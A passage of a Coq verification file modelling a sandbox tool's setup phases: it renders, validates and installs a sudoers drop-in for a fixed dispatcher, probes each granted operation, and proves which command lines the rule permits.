(* ===== verification/PrivilegeRule.v ===== *)
(** * core.setup.l3_sudoers, l3a_per_op_probe and l8_fresh_session

    The sudoers drop-in that lets an operator cross to the owner of the daemon,
    the sweep that probes each of its grants, and the last check of the setup.
    How [sudo] matches a command against a specification is a parameter, and so
    is what [visudo] accepts. *)
From S2P Require Import Prelude PyStr ShellWords HostConfig Dispatch PhaseRunner Interact OnState HostPhases HostIdentity.
From Stdlib Require Import Ascii String.
Open Scope nat_scope.

(** ** The rule *)

Definition SUDOERS_DIR : string := "/etc/sudoers.d".
Definition SUDOERS_HEADER : string := "# sandbox-ai managed — do not edit; rerun 'sudo sandbox setup'".

(** [^[a-z0-9-]+$] *)
Definition OP_NAME_RE (s : string) : bool :=
  let body := dollar_chomp s in
  nonempty body && str_forall (λ c, is_lower c || is_dec c || Ascii.eqb c "-") body.

Definition NO_ARG_OP_NAMES : list string :=
  [op_value AUTH_PROBE; op_value COMPOSE_LS; op_value DOCKER_VERSION; op_value PREFLIGHT].

Definition escape_cmnd_spec_ws (payload : string) : string := replace " " "\ " payload.

Definition cmnd_specs (systemd_run_path sandbox_user : string) (op : Op) : res (list string) :=
  let op_name := op_value op in
  if negb (OP_NAME_RE op_name) then Err RuleRenderError
  else
    let prefix := join " " (sudo_pipe_crossing_argv systemd_run_path sandbox_user) +:+ " /bin/bash -c" in
    let base := escape_cmnd_spec_ws (dispatch_payload op_name []) in
    if negb (bool_decide (op_name ∈ NO_ARG_OP_NAMES)) then Ok [prefix +:+ " " +:+ base +:+ "\ *"]
    else Ok [prefix +:+ " " +:+ base; prefix +:+ " " +:+ base +:+ "\ --check"].

Definition rule_specs (systemd_run_path sandbox_user : string) : res (list string) :=
  specs ← res_map (cmnd_specs systemd_run_path sandbox_user) all_ops; Ok (List.concat specs).

Definition rule_body (operator hostname : string) (specs : list string) : string :=
  SUDOERS_HEADER +:+ NL +:+ "Defaults fast_glob" +:+ NL +:+
  operator +:+ " " +:+ hostname +:+ "=(root) NOPASSWD: NOSETENV: \" +:+ NL +:+
  "    " +:+ join (", \" +:+ NL +:+ "    ") specs +:+ NL.

Definition render_sudoers_rule (systemd_run_path operator hostname sandbox_user : string) : res string :=
  if negb (USERNAME_RE sandbox_user) then Err RuleRenderError
  else
    specs ← rule_specs systemd_run_path sandbox_user;
    if existsb (has_char dq) specs then Err RuleRenderError
    else Ok (rule_body operator hostname specs).

Definition drop_in_path (operator : string) : string := SUDOERS_DIR +:+ "/sandbox-ai-machinectl-" +:+ operator.
Definition staged_path (operator : string) : string := "/tmp/sandbox-ai-machinectl-" +:+ operator +:+ ".staged".

(** ** The phases, over the calls they make *)

Inductive rule_call : Type :=
  (* reads *)
  | SecurePathHost | Hostname | RuleAccounts
  | ReadRule (p : string) | Visudo (p : string)
  | GroupGid (group : string)
  (* the executor: its output, or its error *)
  | Framed (argv : list string) | Plain (argv : list string)
  (* changes *)
  | WriteStaged (p text : string) | InstallRule (mode src dst : string) | RemoveRule (p : string).

Definition rule_answer (c : rule_call) : Type :=
  match c with
  | SecurePathHost => l0_host
  | Hostname => string
  | RuleAccounts => host_env
  | ReadRule _ => option string
  | Visudo _ => Z
  | GroupGid _ => option Z
  | Framed _ | Plain _ => string
  | WriteStaged _ _ | InstallRule _ _ _ | RemoveRule _ => unit
  end.

Abbreviation rule := (prog rule_answer).
Abbreviation rcall c := (perform (answer := rule_answer) c).
Abbreviation rule_phase := (PhaseBody rule_answer).

(** The path of the launcher, or the resolver's error. *)
Definition launcher_of (h : l0_host) : res string :=
  match resolve_systemd_run_path h with Resolved path => Ok path | _ => Err SystemdRunResolutionError end.

Section phases.
Context (exc_str : exn → string) (ctx : SetupContext).
Local Abbreviation operator := (ctx_operator ctx).
Local Abbreviation settings := (HostConfig.host (ctx_config ctx)).

Definition rule_owner : rule string := h ← rcall RuleAccounts; lift (resolve_daemon_owner_settings h settings).

(** *** l3_sudoers *)

Definition expected_body : rule string :=
  l0 ← rcall SecurePathHost;
  path ← lift (launcher_of l0);
  hostname ← rcall Hostname;
  user ← rule_owner;
  lift (render_sudoers_rule path operator hostname user).

Definition l3_probe : rule (PhaseResult * string) :=
  let path := drop_in_path operator in
  expected ← expected_body;
  observed ← rcall (ReadRule path);
  match observed with
  | None => mret (MISSING, path +:+ " absent; will render + install")
  | Some observed =>
      if String.eqb observed expected then mret (ALREADY_CORRECT, path +:+ " matches current Op enum")
      else mret (DRIFT, path +:+ " differs from the expected rule (stale Op enumeration / " +:+
                        "machinectl-path drift); will re-render + re-install")
  end.

Definition l3_act : rule string :=
  body ← expected_body;
  let final_path := drop_in_path operator in
  let staged := staged_path operator in
  _ ← rcall (WriteStaged staged body);
  returncode ← rcall (Visudo staged);
  if negb (Z.eqb returncode 0) then raise RuleRenderError
  else
    _ ← rcall (InstallRule "0440" staged final_path);
    mret ("installed " +:+ final_path +:+ " (mode 0440, validated)").

Definition l3_reverify : rule bool :=
  text ← rcall (ReadRule (drop_in_path operator));
  match text with
  | None => mret false
  | Some text => expected ← expected_body; mret (String.eqb text expected)
  end.

Definition l3_rollback : rule unit := rcall (RemoveRule (drop_in_path operator)).

Definition l3_body : rule_phase := MkBody l3_probe l3_act l3_reverify.

(** *** l3a_per_op_probe *)

Definition PASSWORD_REQUIRED_MARKER : string := "password is required".

(** What root runs to see whether the operator's [sudo] lets the payload through. *)
Definition as_operator (user payload : string) : list string :=
  (sudo_as_operator operator ++ ["sudo"; "-n"] ++ pipe_cmd user ++ ["/bin/bash"; "-c"; payload])%list.

Definition probe_argv (user : string) (op : Op) : list string :=
  as_operator user (dispatch_payload (op_value op) ["--check"]).

Definition probe_failure (op : Op) (message resolved : string) : exn :=
  SandboxExecutionError ("L3a per-op probe FAILED for op " +:+ py_repr (op_value op) +:+ ": " +:+
    (if contains PASSWORD_REQUIRED_MARKER message
     then "sudoers rule did not grant this op — a missed backslash-escape (F-004) OR SYSTEMD_RUN_PATH drift between L0 and the live secure_path"
     else "broken / absent / mis-pathed rule or dispatcher binary (incl. dispatcher reject exit 2)") +:+
    ". Recovered inner exit / trace: " +:+ message +:+
    ". Resolved SYSTEMD_RUN_PATH (pinned in the rule): " +:+ py_repr resolved +:+ ".") false.

Definition classify_op (op : Op) : rule unit :=
  user ← rule_owner;
  catch (_ ← rcall (Framed (probe_argv user op)); mret tt)
    (λ e, if is_sandbox_execution_error e then
            l0 ← rcall SecurePathHost;
            resolved ← lift (launcher_of l0);
            raise (probe_failure op (exc_str e) resolved)
          else raise e).

Definition sweep : rule string :=
  _ ← for_each all_ops classify_op;
  mret ("every op in core.dispatch.Op (" +:+ str_of_Z (Z.of_nat (List.length all_ops)) +:+ ") resolved to MATCH").

Definition l3a_probe : rule (PhaseResult * string) :=
  mret (MISSING, "per-op rule probe must run (no idempotent skip — verification phase)").
Definition l3a_act : rule string := sweep.
Definition l3a_reverify : rule bool := _ ← sweep; mret true.
Definition l3a_rollback : rule unit := rcall (RemoveRule (drop_in_path operator)).

Definition l3a_body : rule_phase := MkBody l3a_probe l3a_act l3a_reverify.

(** *** l8_fresh_session *)

Definition FreshSessionError (msg : string) : exn := SandboxExecutionError msg false.

Definition bridge_gid : rule Z :=
  let group := workspace_bridge_group settings in
  gid ← rcall (GroupGid group);
  match gid with
  | Some gid => mret (gid : Z)
  | None => raise (FreshSessionError ("workspace bridge group " +:+ py_repr group +:+
              " does not exist on this host; setup's group phase must create it before L8 can verify membership"))
  end.

Definition check_group_set : rule unit :=
  gid ← bridge_gid;
  stdout ← catch (rcall (Plain (pipe_cmd operator ++ ["id"; "-G"])%list))
    (λ e, if is_sandbox_execution_error e
          then raise (FreshSessionError ("fresh-session `id -G` for operator " +:+ py_repr operator +:+ " failed: " +:+ exc_str e))
          else raise e);
  let gids := split_ws stdout in
  if negb (bool_decide (str_of_Z gid ∈ gids)) then
    raise (FreshSessionError ("operator " +:+ py_repr operator +:+ "'s fresh-session group set [" +:+
      join ", " (map py_repr gids) +:+ "] does not include the workspace bridge gid " +:+ str_of_Z gid +:+ " (" +:+
      py_repr (workspace_bridge_group settings) +:+ "); the `usermod -aG` group membership is not effective"))
  else mret tt.

Definition auth_probe_argv (user : string) : list string := as_operator user (dispatch_payload (op_value AUTH_PROBE) []).

Definition check_dispatcher_reachable : rule unit :=
  user ← rule_owner;
  catch (_ ← rcall (Framed (auth_probe_argv user)); mret tt)
    (λ e, if is_sandbox_execution_error e
          then raise (FreshSessionError ("the dispatcher is NOT reachable end-to-end through the new rule for operator " +:+
                 py_repr operator +:+ " (recovered inner exit / trace: " +:+ exc_str e +:+ ")"))
          else raise e).

Definition l8_verify : rule string :=
  _ ← check_group_set;
  _ ← check_dispatcher_reachable;
  mret ("fresh-session verified for operator " +:+ py_repr operator +:+
        ": bridge gid in group set; dispatcher reachable through the new rule").

Definition l8_probe : rule (PhaseResult * string) :=
  mret (MISSING, "fresh-session re-probe must run (no idempotent skip — verification)").
Definition l8_reverify : rule bool := _ ← l8_verify; mret true.

Definition l8_body : rule_phase := MkBody l8_probe l8_verify l8_reverify.
End phases.

(** ** What the rule grants

    A command of plain words, and how [sudo] matches a specification of them:
    the command is compared as it is, its arguments joined by blanks, with a
    blank of the specification written bare or escaped.  A final blank and star
    stands for any rest. *)

Definition spec_char (c : ascii) : bool :=
  is_lower c || is_upper c || is_dec c || existsb (Ascii.eqb c) ["_"; "-"; "."; "/"; "="]%char.

Fixpoint unescape_ws (s : string) : string :=
  match s with
  | "" => ""
  | String c r =>
      match r with
      | String d r' => if Ascii.eqb c "\" && Ascii.eqb d " " then String " " (unescape_ws r') else String c (unescape_ws r)
      | "" => ch c
      end
  end.

Definition plain_text (s : string) : bool := str_forall (λ c, spec_char c || Ascii.eqb c " ") s.

Record sudo_policy (sudo_matches : string → list string → bool) : Prop := {
  exact_spec cmd spec argv : str_forall spec_char cmd = true → plain_text (unescape_ws spec) = true →
    sudo_matches (cmd +:+ " " +:+ spec) argv = true ↔ ∃ args, argv = cmd :: args ∧ join " " args = unescape_ws spec;
  wildcard_spec cmd spec argv : str_forall spec_char cmd = true → plain_text (unescape_ws spec) = true →
    sudo_matches (cmd +:+ " " +:+ spec +:+ "\ *") argv = true ↔
      ∃ args rest, argv = cmd :: args ∧ join " " args = unescape_ws spec +:+ " " +:+ rest
}.

(** An accepted owner name; the [$] of the pattern also lets a last newline by. *)
Definition plain_user (user : string) : Prop := USERNAME_RE user = true ∧ has_char nl user = false.

Definition no_arg (op : Op) : bool := bool_decide (op_value op ∈ NO_ARG_OP_NAMES).
Definition crossing_text (user : string) (op : Op) : string :=
  "-q --pipe --uid=" +:+ user +:+ " /bin/bash -c " +:+ DISPATCH_BINARY +:+ " " +:+ op_value op.

Lemma unescape_plain s t : has_char "\" s = false → unescape_ws (s +:+ t) = s +:+ unescape_ws t.
Proof.
  induction s as [|c s IH]; [done|]. cbn [has_char str_exists]. intros [Hc Hs]%orb_false_iff.
  rewrite Ascii.eqb_sym in Hc. specialize (IH Hs). cbn [append unescape_ws].
  destruct (s +:+ t) as [|d r] eqn:E; cbn [andb].
  - destruct s; [|done]. cbn in E. subst t. done.
  - rewrite Hc. cbn [andb]. f_equal. exact IH.
Qed.

Lemma str_forall_no_char (p : ascii → bool) c s : p c = false → str_forall p s = true → has_char c s = false.
Proof.
  intros Hc. apply str_forall_not_exists. intros a Ha. apply Ascii.eqb_neq. intros <-. congruence.
Qed.

Lemma username_spec c : username_rest c = true → spec_char c = true.
Proof. unfold username_rest, spec_char. intros H. destruct c as [[] [] [] [] [] [] [] []]; try done. Qed.

Lemma plain_user_chars user : plain_user user → str_forall username_rest user = true.
Proof.
  intros [Hu Hn]. unfold USERNAME_RE in Hu. rewrite dollar_chomp_id in Hu by done. destruct user as [|c r]; [done|].
  apply andb_true_iff in Hu as [[Hc Hr]%andb_true_iff _]. cbn. rewrite Hr, andb_true_r. unfold username_start in Hc.
  unfold username_rest. apply orb_true_iff in Hc as [-> | ->]; [done|]. by rewrite !orb_true_r.
Qed.

(** The text a specification stands for, and what its words are made of. *)
Definition spec_args (user : string) (op : Op) (tail : string) : string :=
  "-q --pipe --uid=" +:+ user +:+ " /bin/bash -c " +:+ escape_cmnd_spec_ws (dispatch_payload (op_value op) []) +:+ tail.

Lemma escaped_payload op tail : tail ∈ [""; "\ --check"] →
  unescape_ws (escape_cmnd_spec_ws (dispatch_payload (op_value op) []) +:+ tail) =
  DISPATCH_BINARY +:+ " " +:+ op_value op +:+ unescape_ws tail.
Proof. intros [-> | [-> | []%elem_of_nil]%elem_of_cons]%elem_of_cons; by destruct op; vm_compute. Qed.

Lemma spec_args_text user op tail : plain_user user → tail ∈ [""; "\ --check"] →
  unescape_ws (spec_args user op tail) = crossing_text user op +:+ unescape_ws tail.
Proof.
  intros Hu Ht. assert (H1 : has_char "\" "-q --pipe --uid=" = false) by done.
  assert (H2 : has_char "\" user = false) by (eapply str_forall_no_char; [|by apply plain_user_chars]; done).
  assert (H3 : has_char "\" " /bin/bash -c " = false) by done.
  unfold spec_args, crossing_text. rewrite (unescape_plain _ _ H1), (unescape_plain _ _ H2), (unescape_plain _ _ H3), escaped_payload by done.
  by rewrite !app_assoc_str.
Qed.

Lemma spec_args_plain user op tail : plain_user user → tail ∈ [""; "\ --check"] →
  plain_text (unescape_ws (spec_args user op tail)) = true.
Proof.
  intros Hu Ht. rewrite spec_args_text by done. unfold crossing_text, plain_text. rewrite !str_forall_app, !andb_true_iff.
  split_and!; try done.
  - eapply str_forall_impl; [|by apply plain_user_chars]. intros c Hc. by rewrite username_spec.
  - by destruct op.
  - by apply elem_of_cons in Ht as [-> | [-> | []%elem_of_nil]%elem_of_cons].
Qed.

(** The specifications of one operation. *)
Definition op_specs (path user : string) (op : Op) : list string :=
  if no_arg op then [path +:+ " " +:+ spec_args user op ""; path +:+ " " +:+ spec_args user op "\ --check"]
  else [path +:+ " " +:+ spec_args user op "" +:+ "\ *"].

Lemma crossing_prefix path user : join " " (sudo_pipe_crossing_argv path user) +:+ " /bin/bash -c" =
  path +:+ " -q --pipe --uid=" +:+ user +:+ " /bin/bash -c".
Proof.
  unfold sudo_pipe_crossing_argv. cbn [tail sudo_pipe_cmd pipe_cmd]. unfold join. cbn [String.concat].
  by rewrite !app_assoc_str.
Qed.

Lemma cmnd_specs_eq path user op : cmnd_specs path user op = Ok (op_specs path user op).
Proof.
  unfold cmnd_specs, op_specs, no_arg, spec_args. assert (OP_NAME_RE (op_value op) = true) as -> by (by destruct op).
  cbn [negb]. rewrite !crossing_prefix. case_bool_decide; cbn [negb]; rewrite ?app_assoc_str, ?app_nil_r_str; reflexivity.
Qed.

Definition all_specs (path user : string) : list string := List.concat (map (op_specs path user) all_ops).

Lemma rule_specs_eq path user : rule_specs path user = Ok (all_specs path user).
Proof.
  unfold rule_specs, all_specs. enough (res_map (cmnd_specs path user) all_ops = Ok (map (op_specs path user) all_ops)) as -> by done.
  generalize all_ops. induction l as [|op l IH]; [done|]. cbn [res_map map]. by rewrite cmnd_specs_eq, IH.
Qed.

Lemma elem_of_all_specs path user spec : spec ∈ all_specs path user ↔ ∃ op, spec ∈ op_specs path user op.
Proof.
  unfold all_specs. rewrite list_elem_of_In, in_concat. setoid_rewrite in_map_iff. split.
  - intros (l & (op & <- & _) & Hs). exists op. by apply list_elem_of_In.
  - intros (op & Hs). exists (op_specs path user op). split; [|by apply list_elem_of_In]. exists op. split; [done|].
    destruct op; cbn; tauto.
Qed.

Lemma spec_no_quote path user spec : str_forall spec_char path = true → plain_user user →
  spec ∈ all_specs path user → has_char dq spec = false.
Proof.
  intros Hp Hu (op & Hs)%elem_of_all_specs.
  assert (Hq : has_char dq path = false) by (eapply str_forall_no_char; [|done]; done).
  assert (Hq' : has_char dq user = false) by (eapply str_forall_no_char; [|by apply plain_user_chars]; done).
  unfold op_specs, spec_args in Hs. destruct (no_arg op).
  - apply elem_of_cons in Hs as [-> | ->%list_elem_of_singleton]; rewrite !has_char_app, Hq, Hq'; by destruct op.
  - apply list_elem_of_singleton in Hs as ->. rewrite !has_char_app, Hq, Hq'. by destruct op.
Qed.

Lemma render_eq path operator hostname user : str_forall spec_char path = true → plain_user user →
  render_sudoers_rule path operator hostname user = Ok (rule_body operator hostname (all_specs path user)).
Proof.
  intros Hp Hu. unfold render_sudoers_rule. rewrite (proj1 Hu), rule_specs_eq. cbn [negb mbind res_bind].
  destruct (existsb (has_char dq) (all_specs path user)) eqn:E; [|done].
  apply existsb_exists in E as (spec & Hin%list_elem_of_In & Hq). by rewrite (spec_no_quote path user) in Hq.
Qed.

Section granted.
Context (sudo_matches : string → list string → bool) (policy : sudo_policy sudo_matches).

Definition granted (specs argv : list string) : bool := existsb (λ spec, sudo_matches spec argv) specs.

(** What one operation's specifications match. *)
Definition op_grants (path user : string) (op : Op) (argv : list string) : Prop :=
  ∃ args, argv = path :: args ∧
    let text := crossing_text user op in
    if no_arg op then join " " args = text ∨ join " " args = text +:+ " --check"
    else ∃ rest, join " " args = text +:+ " " +:+ rest.

Lemma op_specs_grant path user op argv : str_forall spec_char path = true → plain_user user →
  granted (op_specs path user op) argv = true ↔ op_grants path user op argv.
Proof.
  intros Hp Hu. unfold granted, op_specs, op_grants.
  assert (He : ∀ tail, tail ∈ [""; "\ --check"] → sudo_matches (path +:+ " " +:+ spec_args user op tail) argv = true ↔
    ∃ args, argv = path :: args ∧ join " " args = crossing_text user op +:+ unescape_ws tail).
  { intros tail Ht. rewrite (exact_spec _ policy) by (done || by apply spec_args_plain). by rewrite spec_args_text. }
  destruct (no_arg op); cbn [existsb].
  - rewrite orb_false_r, orb_true_iff, !He by set_solver. cbn [unescape_ws]. rewrite app_nil_r_str.
    split; [intros [(args & ? & ?)|(args & ? & ?)]; eauto|intros (args & ? & [?|?]); eauto].
  - rewrite orb_false_r, (wildcard_spec _ policy) by (done || (apply spec_args_plain; [done|set_solver])).
    rewrite spec_args_text by (done || set_solver). cbn [unescape_ws]. rewrite app_nil_r_str.
    split; intros (args & H); [destruct H as (rest & ? & ?)|destruct H as (? & rest & ?)]; eauto.
Qed.

Lemma rule_grants path user argv : str_forall spec_char path = true → plain_user user →
  granted (all_specs path user) argv = true ↔ ∃ op, op_grants path user op argv.
Proof.
  intros Hp Hu. unfold granted. rewrite existsb_exists. split.
  - intros (spec & (op & Hs)%list_elem_of_In%elem_of_all_specs & Hm). exists op. apply op_specs_grant; [done..|].
    apply existsb_exists. exists spec. split; [by apply list_elem_of_In|done].
  - intros (op & (spec & Hs & Hm)%op_specs_grant%existsb_exists); [|done..]. exists spec. split; [|done].
    apply list_elem_of_In, elem_of_all_specs. exists op. by apply list_elem_of_In.
Qed.

(** The words of a crossing after its launcher. *)
Definition crossing_words (user payload : string) : list string :=
  ["-q"; "--pipe"; "--uid=" +:+ user; "/bin/bash"; "-c"; payload].

Lemma crossing_words_text user payload : join " " (crossing_words user payload) =
  "-q --pipe --uid=" +:+ user +:+ " /bin/bash -c " +:+ payload.
Proof. reflexivity. Qed.

(** A wire that suits its operation: none, or [--check], where the operation
    takes no argument, and some wire where it does. *)
Definition suits (op : Op) (wire : list string) : Prop :=
  if no_arg op then wire = [] ∨ wire = ["--check"] else wire ≠ [].

Lemma payload_text op wire : dispatch_payload (op_value op) wire =
  DISPATCH_BINARY +:+ " " +:+ op_value op +:+ (match wire with [] => "" | _ => " " +:+ shlex_join wire end).
Proof.
  destruct wire as [|w wire]; [by destruct op; vm_compute|]. rewrite dispatch_payload_alt. unfold shlex_join.
  cbn [map]. rewrite 2!join_cons. assert (shlex_quote (op_value op) = op_value op) as -> by (by destruct op).
  reflexivity.
Qed.

Lemma suited_granted path user op wire : str_forall spec_char path = true → plain_user user → suits op wire →
  granted (all_specs path user) (path :: crossing_words user (dispatch_payload (op_value op) wire)) = true.
Proof.
  intros Hp Hu Hw. apply rule_grants; [done..|]. exists op. eexists. split; [done|]. cbv zeta.
  rewrite crossing_words_text, payload_text. unfold suits in Hw. unfold crossing_text. destruct (no_arg op).
  - destruct Hw as [-> | ->]; [left|right]; rewrite ?app_nil_r_str, ?app_assoc_str; reflexivity.
  - destruct wire as [|w wire]; [done|]. exists (shlex_join (w :: wire)). by rewrite !app_assoc_str.
Qed.

(** A validated operation has a wire that suits it. *)
Lemma validated_wire_suits e r args wire : validate (OP_SPECS r) args = Ok tt →
  (if bool_decide (is_Some (COMPOSE_VERB r)) then expand_compose_wire e r args else Ok args) = Ok wire → suits r wire.
Proof.
  intros Hv Hw. destruct (bool_decide (is_Some (COMPOSE_VERB r))) eqn:Hb.
  - unfold expand_compose_wire in Hw. destruct args as [|inst rest]; [done|].
    apply res_bind_Ok in Hw as ([[p fs] env] & _ & [= <-]). apply bool_decide_eq_true in Hb. destruct r; try by destruct Hb.
  - injection Hw as <-. destruct args as [|a args]; [|by destruct r].
    destruct r; try done; by left.
Qed.

Lemma build_invocation_suits h e op args cfg argv : is_operator_rootless cfg = false →
  build_invocation h e op args cfg = Ok argv ∨ proxy_argv h e op args cfg = Ok argv →
  ∃ r wire user, suits r wire ∧ resolve_daemon_owner_settings h (HostConfig.host cfg) = Ok user ∧
    argv = "sudo" :: "systemd-run" :: crossing_words user (dispatch_payload (op_value r) wire).
Proof.
  intros Hm Ha. assert (Hc : ∃ r wire, suits r wire ∧ crossing_argv h (op_value r) wire cfg = Ok argv).
  { destruct Ha as [Ha|Ha]; [unfold build_invocation in Ha|unfold proxy_argv in Ha]; guards;
      match goal with H : op_of_value op = Ok ?o |- _ => pose proof H as Ho; apply op_of_value_spec in H as ->; rename o into r end;
      match goal with H : validate_args _ _ = Ok _ |- _ => unfold validate_args in H; rewrite Ho in H; cbn [mbind res_bind] in H; rename H into Hv end;
      match goal with H : crossing_argv _ _ ?w _ = Ok _ |- _ => exists r, w; split; [|done] end.
    - by eapply validated_wire_suits.
    - unfold require_streaming_op in *. guards. destruct r; try done. match goal with H : expand_fwd_wire _ _ = Ok _ |- _ => unfold expand_fwd_wire in H; guards end.
      match goal with H : (let '(_, _) := ?p in _) = Ok _ |- _ => destruct p; injection H as <- end. done. }
  destruct Hc as (r & wire & Hs & Hc). exists r, wire. unfold crossing_argv in Hc. rewrite Hm in Hc. guards.
  eexists. split_and!; [done|done|]. by injection Hc as <-.
Qed.
End granted.

(** ** A host with a rule *)

Record rstate := RState {
  rs_l0 : l0_host;
  rs_hostname : string;
  rs_env : host_env;
  rs_gid : string → option Z;
  rs_run : list string → res string; (* what the executor gives for a command *)
  rs_files : gmap string string
}.

Definition with_rules (f : gmap string string) (s : rstate) : rstate :=
  RState (rs_l0 s) (rs_hostname s) (rs_env s) (rs_gid s) (rs_run s) f.

Section host.
(** What [visudo -cf] accepts. *)
Context (accepts : string → bool).

Definition visudo_ok (s : rstate) (p : string) : Prop :=
  match rs_files s !! p with Some text => accepts text = true | None => False end.

Definition tells {A} (faults : bool) (s s' : rstate) (a : res A) (P : A → Prop) : Prop :=
  s' = s ∧ match a with Ok x => P x | Err _ => faults = true end.

(** Only the file at [p] may differ. *)
Definition only_at (p : string) (s s' : rstate) : Prop :=
  ∃ f, s' = with_rules f s ∧ ∀ q, q ≠ p → f !! q = rs_files s !! q.

Definition rule_step (faults : bool) (s : rstate) (c : rule_call) : res (rule_answer c) → rstate → Prop :=
  match c with
  | SecurePathHost => λ a s', tells faults s s' a (λ h, h = rs_l0 s)
  | Hostname => λ a s', tells faults s s' a (λ n, n = rs_hostname s)
  | RuleAccounts => λ a s', tells faults s s' a (λ h, h = rs_env s)
  | ReadRule p => λ a s', tells faults s s' a (λ t, t = rs_files s !! p)
  | Visudo p => λ a s', tells faults s s' a (λ rc, rc = 0%Z ↔ visudo_ok s p)
  | GroupGid g => λ a s', tells faults s s' a (λ gid, gid = rs_gid s g)
  | Framed argv | Plain argv => λ a s', s' = s ∧ match a with
                                              | Ok out => rs_run s argv = Ok out
                                              | Err e => faults = true ∨ rs_run s argv = Err e
                                              end
  | WriteStaged p text => λ a s', match a with
                                  | Ok _ => s' = with_rules (<[p := text]> (rs_files s)) s
                                  | Err _ => only_at p s s'
                                  end
  | InstallRule _ src dst => λ a s', match a with
      | Ok _ => ∃ text, rs_files s !! src = Some text ∧ s' = with_rules (<[dst := text]> (rs_files s)) s
      | Err _ => only_at dst s s'
      end
  | RemoveRule p => λ a s', match a with Ok _ => s' = with_rules (delete p (rs_files s)) s | Err _ => s' = s end
  end.

Section steps.
Context (ctx : SetupContext).
Local Abbreviation operator := (ctx_operator ctx).
Local Abbreviation settings := (HostConfig.host (ctx_config ctx)).

(** The rule of the host, when it can be rendered. *)
Definition owner_of (s : rstate) : res string := resolve_daemon_owner_settings (rs_env s) settings.
Definition expected_of (s : rstate) : res string :=
  path ← launcher_of (rs_l0 s);
  user ← owner_of s;
  render_sudoers_rule path operator (rs_hostname s) user.

Section reads.
Context (faults : bool) (I : rstate → Prop).

Lemma swp_tells {A} (c : rule_call) (f : rule_answer c → rule A) v Q s :
  (∀ a s', rule_step faults s c a s' → tells faults s s' a (λ x, x = v)) → I s →
  swp (rule_step faults) I (f v) Q s → (∀ e, faults = true → Q (Err e) s) →
  swp (rule_step faults) I (x ← perform c; f x) Q s.
Proof.
  intros Hc HI Hv He. apply swp_bind, swp_perform; [done|]. intros [x|e] s' Hs; apply Hc in Hs as [-> H]; cbn in H.
  - by subst.
  - split; [done|]. by apply He.
Qed.

Lemma swp_lift {A B} (r : res A) (f : A → rule B) Q s : I s →
  (∀ x, r = Ok x → swp (rule_step faults) I (f x) Q s) → (∀ e, r = Err e → Q (Err e) s) →
  swp (rule_step faults) I (x ← lift r; f x) Q s.
Proof. intros HI Hx He. apply swp_bind. destruct r as [x|e]; apply swp_ret; auto. Qed.

Lemma swp_owner {A} (f : string → rule A) Q s : I s →
  (∀ user, owner_of s = Ok user → swp (rule_step faults) I (f user) Q s) →
  (∀ e, faults = true ∨ owner_of s = Err e → Q (Err e) s) →
  swp (rule_step faults) I (rule_owner ctx ≫= f) Q s.
Proof.
  intros HI Hf He. unfold rule_owner. apply swp_bind. apply (swp_tells RuleAccounts _ (rs_env s)); [done|done| |by eauto].
  destruct (owner_of s) as [user|e] eqn:E; unfold owner_of in E; rewrite E; apply swp_ret; auto.
Qed.

Lemma swp_expected {A} (f : string → rule A) Q s : I s →
  (∀ body, expected_of s = Ok body → swp (rule_step faults) I (f body) Q s) → (∀ e, Q (Err e) s) →
  swp (rule_step faults) I (expected_body ctx ≫= f) Q s.
Proof.
  intros HI Hf He. unfold expected_body. apply swp_bind. apply (swp_tells SecurePathHost _ (rs_l0 s)); [done|done| |done].
  apply swp_lift; [done| |done]. intros path Hp. apply (swp_tells Hostname _ (rs_hostname s)); [done|done| |done].
  apply swp_owner; [done| |done]. intros user Hu.
  destruct (render_sudoers_rule path operator (rs_hostname s) user) as [body|e] eqn:E; apply swp_ret; try done.
  apply Hf. unfold expected_of. by rewrite Hp, Hu.
Qed.

(** A run of the executor whose errors are told again in other words. *)
Lemma swp_retold argv (handler : exn → rule unit) (Q : res unit → rstate → Prop) s : I s →
  (∀ out, rs_run s argv = Ok out → Q (Ok tt) s) →
  (∀ e0, swp (rule_step faults) I (handler e0) (λ r s', s' = s ∧ ∃ e, r = Err e) s) →
  (∀ e, faults = true ∨ (∀ out, rs_run s argv ≠ Ok out) → Q (Err e) s) →
  swp (rule_step faults) I (catch (_ ← rcall (Framed argv); mret tt) handler) Q s.
Proof.
  intros HI Hf Hh He. apply swp_catch, swp_bind, swp_perform; [done|].
  intros [out|e] s' [-> H]; cbn in H; (split; [done|]).
  - apply swp_ret; [done|]. by eapply Hf.
  - eapply swp_mono; [|by apply Hh]. intros r s' HI' [-> [e' ->]]. apply He.
    destruct H as [?|H]; [by left|right]. intros out. by rewrite H.
Qed.
End reads.

(** *** L3 *)

Definition l3_converged (s : rstate) : Prop :=
  ∃ body, expected_of s = Ok body ∧ rs_files s !! drop_in_path operator = Some body.

Lemma staged_not_drop_in : staged_path operator ≠ drop_in_path operator.
Proof. unfold staged_path, drop_in_path, SUDOERS_DIR. done. Qed.

Lemma expected_of_files f s : expected_of (with_rules f s) = expected_of s.
Proof. done. Qed.

(** The drop-in gets the text of the rule, once [visudo] accepts it; while the
    installation itself does not fail, it keeps what it held. *)
Definition l3_post (s : rstate) (r : res string) (s' : rstate) : Prop :=
  match r with
  | Ok _ => ∃ body, expected_of s = Ok body ∧ accepts body = true ∧ rs_files s' !! drop_in_path operator = Some body
  | Err _ => (∃ body, expected_of s = Ok body ∧ accepts body = true) ∨
             rs_files s' !! drop_in_path operator = rs_files s !! drop_in_path operator
  end ∧ s' = with_rules (rs_files s') s ∧
  ∀ q, q ≠ drop_in_path operator → q ≠ staged_path operator → rs_files s' !! q = rs_files s !! q.

Lemma swp_l3_act s : swp (rule_step true) (λ _, True) (l3_act ctx) (l3_post s) s.
Proof.
  assert (Hsame : ∀ e, l3_post s (Err e) s) by (intros e; split; [by right|by destruct s]).
  pose proof staged_not_drop_in as Hne.
  unfold l3_act. apply swp_expected; [done| |done]. intros body Hb.
  apply swp_bind, swp_perform; [done|]. intros [[]|e] s1 Hs; cbn in Hs.
  2: { split; [done|]. destruct Hs as (f & -> & Hf). split_and!; [right; cbn; by apply Hf|done|intros; cbn; by apply Hf]. }
  subst s1. split; [done|]. apply swp_bind, swp_perform; [done|]. intros [rc|e] s2 [-> Hrc].
  2: { split; [done|]. split_and!; [right; cbn; by rewrite lookup_insert_ne|done|intros; cbn; by rewrite lookup_insert_ne]. }
  unfold visudo_ok in Hrc. cbn in Hrc. rewrite lookup_insert_eq in Hrc. split; [done|]. destruct (Z.eqb_spec rc 0) as [->|Hz]; cbn [negb].
  - apply swp_bind, swp_perform; [done|]. intros [[]|e] s2 Hs; cbn in Hs.
